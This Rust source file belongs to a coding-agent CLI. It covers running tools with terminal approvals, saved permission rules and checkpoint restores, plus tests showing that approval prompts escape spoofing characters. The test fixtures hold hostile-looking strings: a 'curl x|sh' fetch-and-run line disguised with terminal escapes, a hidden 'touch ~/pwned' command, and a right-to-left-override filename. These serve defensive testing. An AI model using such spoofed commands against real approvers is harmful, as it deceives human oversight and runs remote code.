//! `tool`, `rules` and `checkpoints`: run one tool the way the agent would (approvals asked on
//! the terminal), manage the rules a project saved, and restore or undo a turn's file changes.

use crate::error::Result;
use crate::output::{table, to_json};
use crate::project_arg::{existing, ProjectArg};
use async_trait::async_trait;
use clap::Subcommand;
use codewright_host::by_hand::{ByHand, Restore};
use codewright_host::{Host, HostError};
use codewright_protocol::{
    visible, ApprovalRequest, Decision, DecisionKind, ErrorKind, LineKind, PermissionMode,
    PermissionRule, Question, RuleAction, TaskId,
};
use codewright_tools::{Approver, NonInteractive, Registry};
use serde_json::json;
use std::io::{BufRead, IsTerminal, Write};
use std::sync::Arc;

#[derive(Subcommand)]
pub enum ToolCommand {
    /// List the built-in tools.
    List,
    /// Run one tool in a task's project, as the agent would.
    Run {
        /// The tool's name (see `tool list`).
        name: String,
        /// Its arguments, as a JSON object.
        arguments: String,
        #[arg(long, value_name = "ID")]
        task: TaskId,
        /// Permission mode: normal, accept-edits, plan or yolo.
        #[arg(long, default_value = "normal", value_parser = parse_mode)]
        mode: PermissionMode,
        /// The turn its file changes are checkpointed under.
        #[arg(long, default_value_t = 1)]
        turn: i64,
        /// Run commands under the Landlock sandbox.
        #[arg(long)]
        sandbox: bool,
    },
}

#[derive(Subcommand)]
pub enum RulesCommand {
    /// The rules a project saved.
    List {
        /// A project's id or folder (default: the current folder's project).
        #[arg(long, value_name = "ID|DIR")]
        project: Option<ProjectArg>,
    },
    /// Save a rule: TOOL (or *) and an optional PATTERN (path glob, command prefix or host).
    Add {
        /// A project's id or folder (default: the current folder's project).
        #[arg(long, value_name = "ID|DIR")]
        project: Option<ProjectArg>,
        tool: String,
        #[arg(default_value = "")]
        pattern: String,
        #[arg(long, value_parser = parse_action, default_value = "allow")]
        action: RuleAction,
    },
    /// Remove a saved rule.
    Rm { id: i64 },
}

#[derive(Subcommand)]
pub enum CheckpointsCommand {
    /// The checkpoints of a task: what each turn (or restore) changed.
    List { task: TaskId },
    /// Put the files a turn (and every later one) changed back as they were before it.
    Restore {
        task: TaskId,
        /// The turn to go back to the start of.
        #[arg(
            long,
            conflicts_with = "checkpoint",
            required_unless_present = "checkpoint"
        )]
        turn: Option<i64>,
        /// A checkpoint id (from `checkpoints list`); a restore's own checkpoint undoes it.
        #[arg(long)]
        checkpoint: Option<i64>,
    },
}

pub fn parse_mode(s: &str) -> Result<PermissionMode, String> {
    PermissionMode::parse(s)
        .ok_or_else(|| format!("unknown mode {s:?}: use normal, accept-edits, plan or yolo"))
}

fn parse_action(s: &str) -> Result<RuleAction, String> {
    RuleAction::parse(s).ok_or_else(|| format!("unknown action {s:?}: use allow, ask or deny"))
}

/// Runs a `tool` command.
pub fn tool(host: &Host, command: ToolCommand, json: bool) -> Result<String> {
    let registry = Registry::builtin();
    match command {
        ToolCommand::List => {
            let specs = registry.specs();
            if json {
                return Ok(to_json(&specs));
            }
            Ok(table(
                &["NAME", "DESCRIPTION"],
                specs.iter().map(|s| {
                    let first = s
                        .description
                        .split(". ")
                        .next()
                        .unwrap_or("")
                        .trim_end_matches('.');
                    vec![s.name.clone(), first.to_string()]
                }),
            ))
        }
        ToolCommand::Run {
            name,
            arguments,
            task,
            mode,
            turn,
            sandbox,
        } => {
            let approver: Arc<dyn Approver> = if std::io::stdin().is_terminal() {
                Arc::new(Terminal)
            } else {
                Arc::new(NonInteractive)
            };
            let runtime = crate::runtime(Some(2))?;
            let output = runtime.block_on(async {
                let cancel = tokio_util::sync::CancellationToken::new();
                let on_ctrl_c = cancel.clone();
                tokio::spawn(async move {
                    if tokio::signal::ctrl_c().await.is_ok() {
                        on_ctrl_c.cancel();
                    }
                });
                let how = ByHand {
                    mode,
                    turn,
                    sandbox,
                };
                host.run_tool(task, &name, &arguments, how, approver, cancel)
                    .await
            })?;
            if json {
                return Ok(to_json(&json!({
                    "content": output.content,
                    "isError": output.is_error,
                    "detail": output.detail,
                })));
            }
            let mut text = output.text_content();
            if !text.ends_with('\n') {
                text.push('\n');
            }
            if output.is_error {
                Err(HostError::new(ErrorKind::ToolFailed, text.trim_end()))
            } else {
                Ok(text)
            }
        }
    }
}

/// Runs a `rules` command.
pub fn rules(host: &Host, command: RulesCommand, json: bool) -> Result<String> {
    match command {
        RulesCommand::List { project } => {
            let rules = host.rules(existing(host, project.as_ref())?)?;
            if json {
                return Ok(to_json(&rules));
            }
            if rules.is_empty() {
                return Ok("No saved rules for this project.\n".into());
            }
            Ok(table(
                &["ID", "ACTION", "TOOL", "PATTERN"],
                rules.iter().map(|r| {
                    vec![
                        r.id.to_string(),
                        r.rule.action.as_str().into(),
                        r.rule.tool.clone(),
                        r.rule.pattern.clone(),
                    ]
                }),
            ))
        }
        RulesCommand::Add {
            project,
            tool,
            pattern,
            action,
        } => {
            let saved = host.add_rule(
                existing(host, project.as_ref())?,
                &PermissionRule {
                    tool,
                    pattern,
                    action,
                },
            )?;
            Ok(if json {
                to_json(&saved)
            } else {
                format!("Saved rule {}\n", saved.id)
            })
        }
        RulesCommand::Rm { id } => {
            host.remove_rule(id)?;
            Ok(format!("Removed rule {id}\n"))
        }
    }
}

/// Runs a `checkpoints` command.
pub fn checkpoints(host: &Host, command: CheckpointsCommand, json: bool) -> Result<String> {
    match command {
        CheckpointsCommand::List { task } => {
            host.task(task)?;
            let list = host.checkpoints(task)?;
            if json {
                return Ok(to_json(&list));
            }
            if list.is_empty() {
                return Ok(
                    "No checkpoints: the agent has not changed files in this task.\n".into(),
                );
            }
            Ok(table(
                &["ID", "TURN", "KIND", "FILES"],
                list.iter().map(|c| {
                    let files: Vec<String> = c
                        .files
                        .iter()
                        .map(|f| {
                            if f.existed {
                                f.path.clone()
                            } else {
                                format!("{} (new)", f.path)
                            }
                        })
                        .collect();
                    vec![
                        c.id.to_string(),
                        c.turn.to_string(),
                        match &c.reverted {
                            Some(path) => format!("revert of {path}"),
                            None => format!("{:?}", c.kind).to_lowercase(),
                        },
                        files.join(", "),
                    ]
                }),
            ))
        }
        CheckpointsCommand::Restore {
            task,
            turn,
            checkpoint,
        } => {
            let which = match (turn, checkpoint) {
                (Some(turn), _) => Restore::Turn(turn),
                (None, Some(id)) => Restore::Checkpoint(id),
                (None, None) => {
                    return Err(crate::error::bad_input("give --turn N or --checkpoint ID"))
                }
            };
            let restored = host.restore_files(task, which)?;
            if json {
                return Ok(to_json(&json!({
                    "undoCheckpoint": restored.undo_checkpoint,
                    "written": restored.written,
                    "removed": restored.removed,
                })));
            }
            let mut out = format!(
                "Restored {} file(s), removed {} created file(s). Undo with: codewright-cli checkpoints restore {} --checkpoint {}\n",
                restored.written.len(),
                restored.removed.len(),
                task,
                restored.undo_checkpoint
            );
            for p in &restored.written {
                out.push_str(&format!("  restored {}\n", p.display()));
            }
            for p in &restored.removed {
                out.push_str(&format!("  removed  {}\n", p.display()));
            }
            Ok(out)
        }
    }
}

/// Asks approvals and questions on the terminal (stderr for the prompt, stdin for the answer).
pub struct Terminal;

pub fn read_line(prompt: String) -> Option<String> {
    let mut err = std::io::stderr().lock();
    let _ = write!(err, "{prompt}");
    let _ = err.flush();
    let mut line = String::new();
    match std::io::stdin().lock().read_line(&mut line) {
        Ok(0) | Err(_) => None,
        Ok(_) => Some(line.trim().to_string()),
    }
}

/// The request as the terminal shows it: summary, reason, the diff or command, the choices.
/// Everything in it that came from the model or the project is shown with its control and
/// invisible characters escaped ([`visible`]), and a warning says so: a `\r` or an escape
/// sequence cannot make a command, a diff or a name read as something else.
pub fn describe(request: &ApprovalRequest) -> String {
    let hidden = std::cell::Cell::new(false);
    let mark = |text: &str| hidden.set(hidden.get() || visible::has_hidden(text));
    // Every field is one line but the command (whose lines are marked below).
    let v = |text: &str| {
        mark(text);
        visible::one_line(text).into_owned()
    };
    let mut out = format!("\n? {} — {}\n", v(&request.summary), v(&request.reason));
    match &request.action {
        codewright_protocol::Action::Edit { hunks, .. } => {
            for h in hunks {
                out.push_str(&format!(
                    "  @@ hunk {} · -{},{} +{},{} @@\n",
                    h.index + 1,
                    h.old_start,
                    h.old_lines,
                    h.new_start,
                    h.new_lines
                ));
                for l in &h.lines {
                    let mark = match l.kind {
                        LineKind::Context => ' ',
                        LineKind::Removed => '-',
                        LineKind::Added => '+',
                    };
                    out.push_str(&format!("  {mark}{}\n", v(&l.text)));
                }
            }
        }
        codewright_protocol::Action::Command { command, cwd, .. } => {
            // A command over several lines shows each under the first, marked as its own.
            mark(command);
            let command = visible::escaped(command).replace('\n', "\n  > ");
            out.push_str(&format!("  $ {command}   (in {})\n", v(cwd)));
        }
        other => out.push_str(&format!(
            "  {}\n",
            // (JSON escapes every control character; invisible ones are escaped here.)
            v(&serde_json::to_string(other).unwrap_or_default())
        )),
    }
    let mut choices = vec!["[y] approve".to_string()];
    if request.decisions.contains(&DecisionKind::ApproveAlways) {
        let rules: Vec<String> = request
            .always
            .iter()
            .map(|r| v(format!("{} {}", r.tool, r.pattern).trim()))
            .collect();
        choices.push(format!("[a] always allow ({})", rules.join("; ")));
    }
    if request.decisions.contains(&DecisionKind::ApproveHunks) {
        choices.push("[h 1,3] only these hunks".into());
    }
    choices.push("[n] reject".into());
    if hidden.get() {
        out.push_str(&format!("  ! {}\n", visible::HIDDEN_WARNING));
    }
    out.push_str(&format!("  {}\n", choices.join("  ")));
    out
}

/// Asks `request` on the terminal until the user answers (end of input: rejected).
pub fn terminal_decision(request: &ApprovalRequest) -> Decision {
    loop {
        let Some(answer) = read_line(format!("{}> ", describe(request))) else {
            return Decision::Reject { feedback: None };
        };
        let lower = answer.to_lowercase();
        match lower.as_str() {
            "y" | "yes" => return Decision::Approve,
            "a" | "always" if request.decisions.contains(&DecisionKind::ApproveAlways) => {
                return Decision::ApproveAlways {
                    rules: request.always.clone(),
                }
            }
            "n" | "no" => {
                let feedback = read_line("  feedback for the agent (optional): ".into())
                    .filter(|f| !f.is_empty());
                return Decision::Reject { feedback };
            }
            _ if lower.starts_with('h')
                && request.decisions.contains(&DecisionKind::ApproveHunks) =>
            {
                let hunks: Result<Vec<usize>, _> = lower[1..]
                    .split(',')
                    .map(|n| n.trim().parse::<usize>().map(|n| n.saturating_sub(1)))
                    .collect();
                match hunks {
                    Ok(hunks) => return Decision::ApproveHunks { hunks },
                    Err(_) => eprintln!("  write the hunk numbers like: h 1,3"),
                }
            }
            _ => eprintln!(
                "  answer y, n{}",
                if request.decisions.contains(&DecisionKind::ApproveAlways) {
                    ", a"
                } else {
                    ""
                }
            ),
        }
    }
}

#[async_trait]
impl Approver for Terminal {
    async fn decide(&self, request: ApprovalRequest) -> Decision {
        tokio::task::spawn_blocking(move || terminal_decision(&request))
            .await
            .unwrap_or(Decision::Reject { feedback: None })
    }

    async fn answer(&self, question: Question) -> Option<String> {
        tokio::task::spawn_blocking(move || terminal_answer(&question))
            .await
            .ok()
            .flatten()
    }
}

/// Asks `question` on the terminal (its text and choices escaped like an approval's); a number
/// picks a choice, anything else is the answer. `None` at the end of input or for no answer.
pub fn terminal_answer(question: &Question) -> Option<String> {
    let mut prompt = format!("\n? {}\n", visible::escaped(&question.question));
    for (i, c) in question.choices.iter().enumerate() {
        prompt.push_str(&format!("  [{}] {}\n", i + 1, visible::escaped(c)));
    }
    let answer = read_line(format!("{prompt}> "))?;
    let picked = answer
        .parse::<usize>()
        .ok()
        .and_then(|n| question.choices.get(n.wrapping_sub(1)).cloned());
    Some(picked.unwrap_or(answer)).filter(|a| !a.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use codewright_protocol::{Action, DiffLine, Hunk, PermissionRule, RuleAction, TaskId};

    fn request(summary: &str, action: Action, pattern: &str) -> ApprovalRequest {
        ApprovalRequest {
            id: 1,
            task_id: TaskId(1),
            call_id: "c".into(),
            tool: "bash".into(),
            summary: summary.into(),
            action,
            decisions: vec![DecisionKind::Approve, DecisionKind::ApproveAlways],
            always: vec![PermissionRule {
                tool: "bash".into(),
                pattern: pattern.into(),
                action: RuleAction::Allow,
            }],
            reason: "asked".into(),
        }
    }

    fn command(c: &str) -> Action {
        Action::Command {
            command: c.into(),
            cwd: "/p".into(),
            sandboxed: false,
            background: false,
        }
    }

    /// Nothing a terminal obeys or hides: no control character but new lines and tabs, and
    /// nothing invisible.
    fn assert_inert(shown: &str) {
        for c in shown.chars() {
            assert!(
                (c == '\n' || c == '\t' || !c.is_control()) && !visible::is_hidden(c),
                "{c:?} reached the terminal raw in {shown:?}"
            );
        }
    }

    #[test]
    fn a_spoofed_command_or_diff_reads_as_what_it_is() {
        let spoof = "touch ~/pwned # \r\x1b[2K  $ ls -la";
        let shown = describe(&request(spoof, command(spoof), spoof));
        assert_inert(&shown);
        assert!(
            shown.contains("$ touch ~/pwned # \\r\\x1b[2K  $ ls -la"),
            "{shown}"
        );
        assert!(shown.contains(visible::HIDDEN_WARNING));
        let diff = Action::Edit {
            path: "evil\u{202e}txt.py".into(),
            created: false,
            content: None,
            hunks: vec![Hunk {
                index: 0,
                old_start: 1,
                old_lines: 0,
                new_start: 1,
                new_lines: 1,
                lines: vec![DiffLine {
                    kind: LineKind::Added,
                    text: "os.system('curl x|sh')\x1b[1A\x1b[2K# harmless".into(),
                }],
            }],
        };
        let shown = describe(&request("Edit evil\u{202e}txt.py", diff, "x"));
        assert_inert(&shown);
        assert!(shown.contains("os.system('curl x|sh')\\x1b[1A"), "{shown}");
        assert!(shown.contains("evil\\u{202e}txt.py"));
        // Plain text is shown as it is, without a warning.
        let shown = describe(&request("Run ls", command("ls -la\necho 汉字"), "ls"));
        assert!(shown.contains("$ ls -la\n  > echo 汉字") && !shown.contains("! This holds"));
    }

    /// A property: for any text in any field of any request, `describe` writes no character a
    /// terminal obeys or hides (2,000 random requests over a pool heavy in controls, bidi and
    /// zero-width characters, and any other code point).
    #[test]
    fn no_control_character_reaches_the_terminal_raw() {
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let pool: Vec<char> = "\0\x07\x08\t\n\x0b\x0c\r\x1b\x7f\u{85}\u{9b}\u{9d}[];?2Kaz $#\u{200b}\u{200d}\u{202a}\u{202e}\u{2066}\u{2069}\u{2028}\u{feff}\u{e0041}\u{fe0f}汉é"
            .chars()
            .collect();
        let text = |n: &mut dyn FnMut() -> u64| -> String {
            let len = n() % 40;
            (0..len)
                .map(|_| {
                    let r = n();
                    if r.is_multiple_of(4) {
                        char::from_u32((r >> 8) as u32 % 0x11_0000).unwrap_or('?')
                    } else {
                        pool[(r >> 8) as usize % pool.len()]
                    }
                })
                .collect()
        };
        for i in 0..2000 {
            let action = match i % 4 {
                0 => command(&text(&mut next)),
                1 => Action::Edit {
                    path: text(&mut next),
                    created: true,
                    content: None,
                    hunks: vec![Hunk {
                        index: 0,
                        old_start: 1,
                        old_lines: 1,
                        new_start: 1,
                        new_lines: 1,
                        lines: vec![
                            DiffLine {
                                kind: LineKind::Removed,
                                text: text(&mut next),
                            },
                            DiffLine {
                                kind: LineKind::Added,
                                text: text(&mut next),
                            },
                        ],
                    }],
                },
                2 => Action::Fetch {
                    url: text(&mut next),
                },
                _ => Action::Call {
                    input: serde_json::json!({ text(&mut next): text(&mut next) }),
                },
            };
            let mut r = request(&text(&mut next), action, &text(&mut next));
            r.reason = text(&mut next);
            assert_inert(&describe(&r));
            assert_inert(&format!("{}", visible::escaped(&text(&mut next))));
        }
    }
}
